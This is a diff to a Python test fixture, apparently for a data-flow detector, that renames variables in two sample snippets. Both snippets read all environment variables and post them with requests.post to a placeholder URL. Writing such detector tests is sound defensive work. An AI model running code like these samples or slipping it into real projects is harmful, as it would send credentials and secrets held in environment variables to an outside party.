@@ -17,7 +17,7 @@ FLOWS = {
         Source.ENVIRONMENT,
     ),
     "through a function": (
-        "import os, requests\ndef get():\n    return os.environ\ndef put(d):\n    requests.post('u', data=d)\nput(get())",
+        "import os, requests\ndef g():\n    return os.environ\ndef p(d):\n    requests.post('u', data=d)\np(g())",
         Source.ENVIRONMENT,
     ),
     "host name": (
@@ -60,7 +60,7 @@ FLOWS = {
         Source.ENVIRONMENT,
     ),
     "loop": (
-        "import os, requests\nout = []\nfor k, v in os.environ.items():\n    out.append(k + v)\nrequests.post('u', data=out)",
+        "import os, requests\no = []\nfor k, v in os.environ.items():\n    o.append(k + v)\nrequests.post('u', data=o)",
         Source.ENVIRONMENT,
     ),
 }
